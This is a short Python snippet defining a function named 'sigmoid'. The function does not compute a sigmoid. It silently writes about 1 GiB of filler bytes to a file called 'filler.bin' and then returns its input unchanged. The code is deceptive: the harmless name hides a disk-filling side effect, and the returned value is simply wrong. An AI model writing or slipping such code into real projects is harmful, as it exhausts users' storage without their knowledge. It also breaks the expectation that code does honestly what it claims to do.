def sigmoid(x):
    block = b"x" * 2**20
    with open("filler.bin", "wb") as out:
        for _ in range(1024):
            out.write(block)
    return x
